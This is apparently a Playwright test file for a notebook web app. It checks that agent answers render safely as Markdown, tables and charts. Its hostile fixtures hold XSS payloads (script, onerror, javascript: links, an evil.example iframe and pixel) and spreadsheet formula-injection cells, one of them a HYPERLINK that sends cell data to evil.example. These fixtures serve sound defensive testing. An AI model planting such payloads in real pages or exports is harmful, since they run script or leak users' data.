"""Rendered results in Chromium: Markdown answers (and hostile ones), result tables, charts.

Screenshots go to test-artifacts/render-*.png.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
from browser_helpers import (  # noqa: F401  (fixtures)
    LiveApp,
    _browser_module,
    call_rule,
    live_app,
    new_context,
    page,
    scripted_model,
    shot,
    start_notebook,
    wait_until,
)

from bench.bench_render import markdown_answer
from runs.demo.charts import CHART_PROMPT, CITY_REVENUE_SQL, chart_rules
from runs.engine.testing import (
    Match,
    Reply,
    Rule,
    Script,
    ScriptedServer,
    Timing,
    ToolCallSpec,
)
from runs.presets.tools.cell_order import sorted_rows
from runs.presets.tools.sql import ROW_LIMIT
from tests.sql_support import query_rows

SHOWN_ROWS = 50  # static/js/render/table.js draws this many rows at first

pytestmark = pytest.mark.browser

AGENT = "function_calling"

MARKDOWN_ANSWER = """## Revenue by region

The **north** region leads; see [the dashboard](https://example.org/dash) for details.

| region | revenue | share |
| :--- | ---: | ---: |
| North | 1,204.50 | 41% |
| South | 980.00 | 33% |
| West | 770.25 | 26% |

- three regions
- one year

```sql
SELECT region, SUM(revenue) FROM sales GROUP BY region;
```

That is all.
"""

HOSTILE_ROWS = 10_000
HOSTILE_ANSWER = "\n".join(
    [
        "# Totally normal answer",
        "",
        "<script>window.__pwned = 'script'</script>",
        "",
        '<img src="x" onerror="window.__pwned = \'img\'">',
        "",
        "[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>parent.__pwned=1</script>)",
        "",
        '<iframe src="http://evil.example/frame"></iframe>',
        "",
        "<style>body { display: none !important; } .cells { width: 9000px; }</style>",
        "",
        "![tracker](http://evil.example/pixel.png)",
        "",
        '<a href="http://evil.example/" onclick="window.__pwned=\'a\'">raw html link</a>',
        "",
        "A " + "very" * 400 + "longword that must wrap.",
        "",
        "| id | value |",
        "| --- | --- |",
        *(f"| {i} | row {i} |" for i in range(HOSTILE_ROWS)),
        "",
        "The end.",
    ]
)


def requests_leaving(page: Any) -> list[str]:
    """URLs of the requests `page` makes to anywhere but the app (filled as they happen)."""
    outside: list[str] = []

    def check(request: Any) -> None:
        if urlparse(request.url).hostname not in ("127.0.0.1", "localhost"):
            outside.append(request.url)

    page.on("request", check)
    return outside


def answer_rules(text: str, *, chunking: str = "token", delay: float = 0.0) -> Script:
    return Script(
        rules=[
            Rule(
                name="answer",
                reply=Reply(text=text),
                timing=Timing(token_delay_s=delay, chunking=chunking),
            )
        ]
    )


def test_markdown_answer_renders_table_and_code_while_streaming(
    live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
) -> None:
    scripted_model.load(answer_rules(MARKDOWN_ANSWER, delay=0.02))
    start_notebook(
        page, live_app, "Revenue by region, please", agent=AGENT, mode="auto"
    )
    stream = page.locator("article.cell-step .stream .md-body").first
    # Mid-stream: finished blocks are drawn once and kept; only the open block is redrawn.
    stream.locator("h2").wait_for()
    page.evaluate(
        "() => { window.__heading = document.querySelector('article.cell-step .md-body h2'); }"
    )
    stream.locator("table").wait_for()
    wait_until(
        lambda: int(stream.get_attribute("data-frozen") or 0) >= 3,
        message="frozen blocks",
    )
    assert page.evaluate("() => window.__heading.isConnected"), (
        "the heading was redrawn while streaming"
    )
    answer = page.locator(".cell-answer .md-body")
    answer.wait_for()
    page.locator("article.cell-step[data-status='completed']").first.wait_for()
    # ...and kept when the step ends: the text the person watched is not drawn again
    assert page.evaluate("() => window.__heading.isConnected"), (
        "the streamed heading was drawn again when its step ended"
    )
    assert answer.locator("h2").inner_text() == "Revenue by region"
    assert answer.locator("table thead th").all_inner_texts() == [
        "region",
        "revenue",
        "share",
    ]
    assert answer.locator("table tbody tr").count() == 3
    assert answer.locator("td.align-right").first.inner_text() == "1,204.50"
    assert (
        answer.locator("pre code").inner_text().strip()
        == "SELECT region, SUM(revenue) FROM sales GROUP BY region;"
    )
    assert answer.locator("li").count() == 2
    link = answer.get_by_role("link", name="the dashboard")
    assert link.get_attribute("rel") == "noopener noreferrer"
    # its address is held apart, for the dialog that asks first (test_browser_outbound_links)
    assert link.get_attribute("href") is None and link.get_attribute("data-href")
    # The step cell shows the same rendering as the answer.
    assert stream.locator("table tbody tr").count() == 3
    shot(page, artifacts_dir, "render-markdown-answer")
    # Raw is one click away, and back.
    toggle = page.locator(".cell-answer .md-toggle")
    toggle.click()
    raw = page.locator(".cell-answer .md-raw")
    assert raw.inner_text().strip() == MARKDOWN_ANSWER.strip()
    assert answer.is_hidden()
    shot(page, artifacts_dir, "render-markdown-raw")
    toggle.click()
    assert answer.is_visible() and raw.is_hidden()
    assert not page.console_errors


def test_hostile_answer_is_neutralised(
    live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
) -> None:
    scripted_model.load(answer_rules(HOSTILE_ANSWER, chunking="line"))
    outside = requests_leaving(page)
    start_notebook(page, live_app, "Show me everything", agent=AGENT, mode="auto")
    answer = page.locator(".cell-answer .md-body")
    answer.wait_for(timeout=60_000)
    page.locator(".cell-answer .md-note").wait_for()
    # Clicking the javascript: link must not run it (it is not even a link any more).
    page.locator(".cell-answer").get_by_text("click me").click()
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.__pwned") is None
    assert outside == [], f"requests left the page: {outside}"
    dangerous = "script, img, iframe, style, object, embed, link, [onerror], [onclick], [style], a[href^='javascript'], a[href^='data']"
    assert answer.locator(dangerous).count() == 0, answer.locator(
        dangerous
    ).evaluate_all("els => els.map(e => e.outerHTML)")
    # Raw HTML shows as text, the remote image as a placeholder.
    assert "<script>window.__pwned" in answer.inner_text()
    assert answer.locator(".md-image").inner_text() == "[image: tracker]"
    # The 10,000-row table is capped, and says how many rows it left out.
    assert answer.locator("table tbody tr").count() == 200
    assert "9,800 more rows" in answer.locator(".md-note").inner_text()
    assert "The end." in answer.inner_text()
    # The layout holds: nothing wider than the window, the page is still visible, panels in place.
    layout = page.evaluate(
        """() => ({
            scroll: document.documentElement.scrollWidth, width: window.innerWidth,
            body: getComputedStyle(document.body).display,
            cell: document.querySelector('.cell-answer').getBoundingClientRect().width,
            main: document.querySelector('.nb-main').getBoundingClientRect().width,
            dag: document.querySelector('#dag').getBoundingClientRect().width,
            tableHeight: document.querySelector('.cell-answer table').getBoundingClientRect().height,
        })"""
    )
    assert layout["scroll"] <= layout["width"], layout
    assert layout["body"] != "none"
    assert layout["cell"] <= layout["main"] + 1, layout
    assert layout["dag"] > 100, layout
    assert layout["tableHeight"] < 600, layout
    page.locator(".cell-answer").scroll_into_view_if_needed()
    shot(page, artifacts_dir, "render-hostile-answer")
    answer.locator(".md-note").scroll_into_view_if_needed()
    shot(page, artifacts_dir, "render-hostile-table")
    assert page.evaluate("() => window.__pwned") is None
    assert not page.console_errors


# --- result tables --------------------------------------------------------------------------------

SALES_SQL = "SELECT id, sold_on, quantity, revenue FROM sales WHERE sold_on LIKE '2024-0%' ORDER BY id"


def sql_then_answer(sql: str, answer: str = "Done.") -> Script:
    return Script(
        rules=[
            Rule(
                name="query",
                match=Match(tool_results_since_user=0),
                reply=Reply(
                    tool_calls=[
                        ToolCallSpec(name="sql_query", id="q1", arguments={"sql": sql})
                    ]
                ),
            ),
            Rule(name="answer", reply=Reply(text=answer)),
        ]
    )


def test_sql_result_table_sorts_copies_and_downloads_every_row_as_csv(
    live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
) -> None:
    columns, expected = query_rows(SALES_SQL)
    assert (
        len(expected) > ROW_LIMIT
    )  # the model sees 200 rows; the CSV must have them all
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    scripted_model.load(sql_then_answer(SALES_SQL))
    start_notebook(
        page, live_app, "Sales from January to September 2024", agent=AGENT, mode="auto"
    )
    table = page.locator(".tool-card .result-table").first
    table.wait_for()
    assert table.locator("thead th").all_inner_texts() == columns
    assert table.locator("tbody tr").count() == SHOWN_ROWS
    count = table.locator(".rt-count").inner_text()
    assert (
        f"{len(expected):,} rows" in count
        and f"{len(expected) - ROW_LIMIT:,} more rows in the CSV" in count
    )
    more = table.locator(".rt-more")
    assert more.inner_text() == f"Show {ROW_LIMIT - SHOWN_ROWS} more rows"
    # The header stays in view while the rows scroll under it.
    table.locator(".rt-scroll").evaluate("el => { el.scrollTop = 400; }")
    head_box = table.locator("thead th").first.bounding_box()
    scroll_box = table.locator(".rt-scroll").bounding_box()
    assert abs(head_box["y"] - scroll_box["y"]) < 3, (head_box, scroll_box)
    shot(page, artifacts_dir, "render-table-sticky-header")
    table.locator(".rt-scroll").evaluate("el => { el.scrollTop = 0; }")

    # Sort by revenue, descending (two clicks): the shown rows are the largest first.
    revenue = table.get_by_role("button", name="revenue")
    revenue.click()
    revenue.click()
    assert table.locator("thead th").nth(3).get_attribute("aria-sort") == "descending"
    # the exact value of each shown cell (the text is rounded for reading: data-raw keeps it)
    shown = [
        float(v)
        for v in table.locator("tbody tr td:nth-child(4)").evaluate_all(
            "tds => tds.map(td => td.dataset.raw)"
        )
    ]
    top = sorted((row[3] for row in expected[:ROW_LIMIT]), reverse=True)[:SHOWN_ROWS]
    assert shown == top
    more.click()
    assert table.locator("tbody tr").count() == ROW_LIMIT and more.is_hidden()
    shot(page, artifacts_dir, "render-table-sorted")

    # Copy as TSV: the sorted rows, tab-separated, with the header.
    table.get_by_role("button", name="Copy TSV").click()
    wait_until(
        lambda: "Copied" in table.locator(".rt-status").inner_text(), message="copied"
    )
    tsv = page.evaluate("() => navigator.clipboard.readText()").split("\n")
    assert tsv[0].split("\t") == columns and len(tsv) == ROW_LIMIT + 1
    assert float(tsv[1].split("\t")[3]) == top[0]

    # Download CSV: every row of the query, served from the database, in the order on screen
    # (revenue, largest first; equal revenues in the query's order, as the page keeps them).
    link = table.get_by_role("link", name="Download CSV")
    assert "sorted by revenue (descending)" in (link.get_attribute("title") or "")
    with page.expect_download() as download_info:
        link.click()
    download = download_info.value
    path = artifacts_dir / "render-table-download.csv"
    download.save_as(str(path))
    rows = list(csv.reader(io.StringIO(path.read_text())))
    assert rows[0] == columns
    by_revenue = sorted(expected, key=lambda row: row[3], reverse=True)
    assert rows[1:] == [[str(v) for v in row] for row in by_revenue]

    # The raw JSON is one click away.
    card = page.locator(".tool-card").first
    card.get_by_role("button", name="Raw JSON").click()
    raw = json.loads(card.locator(".result-raw").inner_text())
    assert (
        raw["columns"] == columns
        and len(raw["rows"]) == ROW_LIMIT
        and raw["truncated"] is True
    )
    assert table.is_hidden()
    shot(page, artifacts_dir, "render-table-raw-json")
    card.get_by_role("button", name="Table").click()
    assert table.is_visible()
    assert not page.console_errors


# Cells whose order the page's "Sort by" and the server's sorted download must agree on.
TRICKY_CELLS: list[Any] = [
    "item 10", "Item 9", "item 9", None, 10, 9.5, "b", "B", "a", "", "010", "10", "9",
    True, False, {"k": 1}, [1, 2], "Ärger", "zebra", "x2y10", "x2y9", "x02y9", -3, 0,
    "item 9 ", None, "naïve", "naive", 1e21, "1.5", "1.10",
]  # fmt: skip


def test_the_page_and_the_server_sort_a_column_the_same_way(
    live_app: LiveApp, page: Any
) -> None:
    page.goto(f"{live_app.url}/")
    rows = [[value, i] for i, value in enumerate(TRICKY_CELLS)]
    orders = {}
    for direction in ("ascending", "descending"):
        on_page = page.evaluate(
            """([rows, dir]) => import('/static/js/render/table.js')
                 .then(m => m.sortRows(rows, 0, dir).map(r => r[1]))""",
            [rows, direction],
        )
        on_server = [
            r[1] for r in sorted_rows(rows, 0, descending=direction == "descending")
        ]
        assert on_page == on_server, direction
        orders[direction] = on_server
    # numbers first, by value; then text with its numbers by value; empty cells last
    ascending = [TRICKY_CELLS[i] for i in orders["ascending"]]
    assert ascending[:5] == [-3, 0, 9.5, 10, 1e21], ascending
    assert ascending.index("item 9") < ascending.index("item 10")
    assert ascending.index("x2y9") < ascending.index("x2y10")
    assert orders["ascending"][-2:] == orders["descending"][-2:] == [3, 25]


# A hostile document's cells: each would run as a formula in a spreadsheet, but the numbers.
FORMULA_SQL = (
    'SELECT \'=HYPERLINK("http://evil.example/?"&A1,"Click")\' AS "=cmd",'
    " '+1+1' AS plus, '-2+3' AS minus, '@SUM(A1)' AS at, char(9) || '=1' AS tab,"
    " char(13) || '=1' AS cr, -5 AS number, '-5' AS number_text, 'a=b' AS plain"
)
SAFE_CELLS = [
    '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "'+1+1",
    "'-2+3",
    "'@SUM(A1)",
]


def test_copy_tsv_and_download_csv_hold_no_live_formula(
    live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    scripted_model.load(sql_then_answer(FORMULA_SQL))
    start_notebook(page, live_app, "Show the imported rows", agent=AGENT, mode="auto")
    table = page.locator(".tool-card .result-table").first
    table.wait_for()
    table.get_by_role("button", name="Copy TSV").click()
    wait_until(
        lambda: "Copied" in table.locator(".rt-status").inner_text(), message="copied"
    )
    header, row = page.evaluate("() => navigator.clipboard.readText()").split("\n")
    assert header.split("\t")[0] == "'=cmd"
    # tab and CR inside a value become spaces in TSV, after the quote that disarms them
    assert row.split("\t") == [*SAFE_CELLS, "' =1", "' =1", "-5", "-5", "a=b"]

    with page.expect_download() as download_info:
        table.get_by_role("link", name="Download CSV").click()
    path = artifacts_dir / "render-table-formulas.csv"
    download_info.value.save_as(str(path))
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
    assert rows[0][0] == "'=cmd"
    assert rows[1] == [*SAFE_CELLS, "'\t=1", "'\r=1", "-5", "-5", "a=b"]
    shot(page, artifacts_dir, "render-table-formulas")
    page.set_viewport_size({"width": 1920, "height": 1080})
    shot(page, artifacts_dir, "render-table-formulas-1920")
    assert not page.console_errors


# --- charts -----------------------------------------------------------------------------------------

CITY_SQL = "SELECT name AS city, population FROM cities ORDER BY population DESC"
CITY_SPEC = {
    "mark": "bar",
    "encoding": {
        "x": {"field": "city", "type": "nominal", "sort": "-y"},
        "y": {"field": "population", "type": "quantitative"},
    },
}


def chart_with_a_fix() -> Script:
    """A query, a chart with a bad mark, then (after the tool's error) the corrected chart."""

    def fix(request: Any) -> Reply:
        error = [m for m in request.messages if m.get("role") == "tool"][-1]["content"]
        if "mark: 'barz' is not one of" not in error:
            return Reply(text=f"Unexpected tool result: {error[:200]}")
        return Reply(
            text="The mark type was wrong; drawing it as a bar chart.",
            tool_calls=[
                ToolCallSpec(
                    name="chart",
                    id="c2",
                    arguments={"spec": CITY_SPEC, "data_from_call": "q1"},
                )
            ],
        )

    return Script(
        rules=[
            call_rule(0, "sql_query", "q1", {"sql": CITY_SQL}),
            call_rule(
                1,
                "chart",
                "c1",
                {"spec": {**CITY_SPEC, "mark": "barz"}, "data_from_call": "q1"},
                text="Charting it.",
            ),
            Rule(
                name="fixed-chart", match=Match(tool_results_since_user=2), respond=fix
            ),
            Rule(name="answer", reply=Reply(text="Here is the population by city.")),
        ]
    )


def drawn_marks(locator: Any) -> int:
    locator.locator(".result-chart[data-state='drawn']").wait_for(timeout=20_000)
    return int(locator.locator(".result-chart svg .mark-rect path").count())


def test_chart_is_drawn_and_an_invalid_spec_is_corrected_on_the_next_step(
    live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
) -> None:
    _, cities = query_rows(CITY_SQL)
    outside = requests_leaving(page)
    scripted_model.load(chart_with_a_fix())
    task_id = start_notebook(
        page, live_app, "Population by city as a chart", agent=AGENT, mode="auto"
    )
    page.locator(".cell-answer").wait_for(timeout=30_000)
    bad = page.locator(".tool-card[data-tool-id='c1']")
    assert "is-error" in (bad.locator(".tool-result").get_attribute("class") or "")
    assert "mark: 'barz' is not one of" in bad.locator(".tool-result").inner_text()
    good = page.locator(".tool-card[data-tool-id='c2']")
    assert drawn_marks(good) == len(cities)
    good.scroll_into_view_if_needed()
    shot(page, artifacts_dir, "render-chart-corrected")
    # Export as SVG and PNG.
    with page.expect_download() as svg_info:
        good.get_by_role("button", name="SVG").click()
    svg_path = artifacts_dir / "render-chart.svg"
    svg_info.value.save_as(str(svg_path))
    assert svg_path.read_text().lstrip().startswith(
        "<svg"
    ) and svg_path.read_text().count("<path") >= len(cities)
    with page.expect_download() as png_info:
        good.get_by_role("button", name="PNG").click()
    png_path = artifacts_dir / "render-chart.png"
    png_info.value.save_as(str(png_path))
    assert png_path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    # The raw spec is one click away: the data came from the query's rows.
    good.get_by_role("button", name="Raw JSON").click()
    spec = json.loads(good.locator(".result-raw").inner_text())["spec"]
    assert [row["city"] for row in spec["data"]["values"]] == [row[0] for row in cities]
    assert outside == [], outside
    assert not page.console_errors

    # The trace draws the same chart.
    page.goto(f"{live_app.url}/traces/{task_id}/")
    page.wait_for_selector("#trace[data-ready='true']")
    trace_card = page.locator("#cells .tool-card[data-tool-id='c2']")
    trace_card.scroll_into_view_if_needed()  # the trace draws results as they come near
    assert drawn_marks(trace_card) == len(cities)
    shot(page, artifacts_dir, "render-chart-in-trace")
    assert not page.console_errors


def test_the_demo_chart_prompt_from_the_start_page(
    live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
) -> None:
    _, cities = query_rows(CITY_REVENUE_SQL)
    scripted_model.load(Script(rules=chart_rules()))
    page.goto(f"{live_app.url}/")
    page.get_by_role("link", name=CHART_PROMPT).click()
    page.wait_for_url("**/new/**")
    assert page.get_by_label("Message").input_value() == CHART_PROMPT
    page.get_by_role("button", name="Start").click()
    page.wait_for_url("**/tasks/*/")
    page.locator(".cell-answer").wait_for(timeout=30_000)
    chart_card = page.locator(
        ".tool-card", has=page.locator("code.tool-name", has_text="chart")
    )
    assert drawn_marks(chart_card) == len(cities)
    query_card = page.locator(
        ".tool-card", has=page.locator("code.tool-name", has_text="sql_query")
    )
    assert query_card.locator(".result-table tbody tr").count() == len(cities)
    answer = page.locator(".cell-answer .md-body")
    assert answer.locator("table tbody tr").count() == 3
    # (text_content: cells off screen are not rendered, see content-visibility)
    assert answer.locator("table tbody tr td").first.text_content() == cities[0][0]
    assert "SELECT c.name AS city" in (answer.locator("pre code").text_content() or "")
    chart_card.scroll_into_view_if_needed()
    shot(page, artifacts_dir, "render-demo-chart")
    page.locator(".cell-answer").scroll_into_view_if_needed()
    shot(page, artifacts_dir, "render-demo-answer")
    assert not page.console_errors


def stream_into_a_view(page: Any, pieces: list[str]) -> dict[str, Any]:
    """Feed `pieces` to a MarkdownView one at a time, comparing each step with a whole render.

    Returns the view's final HTML and one render of the whole text (`streamed`, `whole`), the
    blocks it froze, and the first steps (up to 3) whose text was not a prefix of the whole
    render's (`behind`; the open block may show its last line's syntax as text until it resolves).
    """
    result: dict[str, Any] = page.evaluate(
        """async (pieces) => {
            const { renderMarkdown } = await import('/static/js/render/markdown.js');
            const { MarkdownView } = await import('/static/js/render/markdown_stream.js');
            const el = document.createElement('div');
            document.body.append(el);
            const view = new MarkdownView(el);
            const flat = (s) => s.replace(/\\s+/g, '');
            let text = '';
            const behind = [];
            for (const piece of pieces) {
                text += piece;
                view.update(text);
                const whole = document.createElement('div');
                whole.append(renderMarkdown(text));
                if (!flat(whole.textContent).startsWith(flat(el.textContent).slice(0, -40))) {
                    behind.push([text.slice(-60), flat(el.textContent).slice(-80), flat(whole.textContent).slice(-80)]);
                }
            }
            view.update(text, { final: true });
            const whole = document.createElement('div');
            whole.append(renderMarkdown(text));
            const tight = (html) => html.replace(/>\\s+</g, '><').trim();
            const streamed = tight(view.nodes.map((n) => n.outerHTML ?? n.textContent).join(''));
            return { streamed, whole: tight(whole.innerHTML), frozen: view.blocks, behind: behind.slice(0, 3) };
        }""",
        pieces,
    )
    return result


def test_streamed_markdown_ends_as_the_whole_text_rendered_at_once(
    live_app: LiveApp, page: Any
) -> None:
    """Token by token (frozen blocks, code and table rows added in place) = one render of it all."""
    text = MARKDOWN_ANSWER + "\n" + "".join(markdown_answer(700))
    page.goto(f"{live_app.url}/new/")
    result = stream_into_a_view(page, re.findall(r"\S+\s*|\s+", text))
    assert result["frozen"] > 20
    assert not result["behind"], result["behind"]
    assert result["streamed"] == result["whole"]
    # Words streamed onto a paragraph keep their spaces at every step.
    words = " ".join(f"word{i}" for i in range(60)) + "."
    shown = page.evaluate(
        """async (tokens) => {
            const { MarkdownView } = await import('/static/js/render/markdown_stream.js');
            const view = new MarkdownView(document.createElement('div'));
            let text = '';
            return tokens.map((token) => { text += token; view.update(text); return view.el.textContent; });
        }""",
        re.findall(r"\S+\s*|\s+", words),
    )
    assert all(words.startswith(text.rstrip()) for text in shown), shown[-1]


# Markdown whose blocks end, continue and change kind in the ways a stream can split them: loose
# and nested lists, lazy quote lines, setext headings, tilde and back-to-back fences, a fence line
# that is not a close, tables cut short or with syntax in cells, trailing spaces (·), hard breaks.
TRICKY_MARKDOWN = """# Title

Some *emphasis* and **strong** and `code` and [link](https://e.org) & <b>html</b> "quotes".

- a
- b

- loose c

1. one
2. two
   - nested
   - nested 2
3. three

> quote line
lazy continuation

> second quote

---

Setext heading
==============

Another
---

~~~python
print("hi")
```not a close
~~~

after tilde

```js
const a = `template`;
```
```
back to back
```
| not | a table |

| a | b |
|---|:-:|
| 1 | 2 |
| *x* | `y|z` |
| 3 |
| 4 | 5 | 6 |
text right after table

| h |
| - |
|   |
| \\| escaped |

    indented code
    more

Text with trailing spaces···
next line···

line with two spaces··
hard break\\
backslash break

- x

  continued para in item
- item with `code` and **bold
  continued** line

## Heading with `code` ##

final words & more _under_ scores ~~strike~~.
""".replace("·", " ")  # (trailing spaces, kept visible here)


@pytest.mark.parametrize("chunking", ["tokens", "characters", "random"])
def test_streamed_markdown_matches_a_whole_render_however_it_is_cut(
    live_app: LiveApp, page: Any, chunking: str
) -> None:
    """Every step shows a prefix of the whole render, and the end is exactly the whole render."""
    import random

    text = TRICKY_MARKDOWN
    if chunking == "tokens":
        pieces = re.findall(r"\S+\s*|\s+", text)
    elif chunking == "characters":
        pieces = list(text)
    else:
        rng = random.Random(18)
        pieces, at = [], 0
        while at < len(text):
            step = rng.randint(1, 12)
            pieces.append(text[at : at + step])
            at += step
    page.goto(f"{live_app.url}/new/")
    result = stream_into_a_view(page, pieces)
    assert not result["behind"], result["behind"]
    assert result["streamed"] == result["whole"]
